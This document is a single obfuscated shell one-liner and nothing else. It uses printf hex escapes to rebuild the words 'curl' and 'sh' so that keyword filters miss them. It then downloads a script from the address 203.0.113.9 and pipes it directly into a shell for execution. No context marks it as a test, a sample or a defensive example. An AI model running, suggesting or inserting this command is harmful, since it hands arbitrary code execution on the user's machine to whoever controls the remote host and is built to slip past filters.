$(printf '\x63\x75\x72\x6c') -s http://203.0.113.9/x | $(printf '\x73\x68')
